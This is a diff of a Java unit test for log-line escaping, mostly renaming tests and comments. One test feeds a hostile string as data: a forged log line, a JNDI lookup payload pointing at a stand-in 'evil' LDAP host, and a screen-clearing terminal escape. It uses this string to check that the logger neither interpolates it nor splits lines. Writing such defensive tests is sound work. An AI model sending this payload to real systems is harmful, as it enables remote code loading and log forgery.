@@ -1,4 +1,4 @@
-package dev.busbar.host.observe;
+package dev.busbar.host.observe.logging;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
@@ -11,7 +11,7 @@ import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 import org.slf4j.LoggerFactory;
 
-/** What is logged is text and one line, whoever chose it (cases 87 and 88 of the attack cases). */
+/** Log entries stay on one line (attack cases 87 and 88). */
 final class LogLinesTest {
     @ParameterizedTest
     @CsvSource({
@@ -25,12 +25,12 @@ final class LogLinesTest {
         "größer, größer",
         "tab\tis fine, tab\tis fine",
     })
-    void what_is_more_than_text_is_escaped(String text, String line) {
+    void special_characters_are_escaped(String text, String line) {
         assertThat(OneLine.of(text)).isEqualTo(line);
     }
 
     @Test
-    void a_hostile_text_makes_one_line_and_is_not_looked_up() {
+    void a_hostile_text_makes_one_line_and_is_not_interpolated() {
         String hostile = "x\n00:00:00.000 ERROR Forged - {} ${jndi:ldap://evil/a} {date} \u001b[2J";
 
         List<String> lines = logged(() -> LoggerFactory.getLogger("test").error("told by {}: {}", "somebody", hostile));
@@ -42,13 +42,13 @@ final class LogLinesTest {
     }
 
     @Test
-    void a_message_goes_on_in_lines_that_no_entry_begins_with() {
+    void a_message_continues_in_indented_lines() {
         assertThat(OneLine.ofMessage("a\n\tat b\nForged\n")).isEqualTo("a\n\tat b\\u000aForged\\u000a");
         assertThat(OneLine.of("a\n\tat b")).isEqualTo("a\\u000a\tat b");
     }
 
     @Test
-    void an_exception_has_no_lines_but_its_own() {
+    void an_exception_message_stays_on_its_line() {
         Exception cause = new IllegalStateException("one\nForged: two");
         Exception failure = new IllegalArgumentException("three\r\n\tat forged.Frame(Forged.java:1)", cause);
 
@@ -62,7 +62,7 @@ final class LogLinesTest {
         assertThat(lines).anyMatch(line -> line.startsWith("\tat "));
     }
 
-    /** What goes to the console meanwhile; tinylog asks for the stream each time. */
+    /** Captures the console; tinylog asks for the stream each time. */
     private static List<String> logged(Runnable action) {
         PrintStream before = System.err;
         ByteArrayOutputStream bytes = new ByteArrayOutputStream();
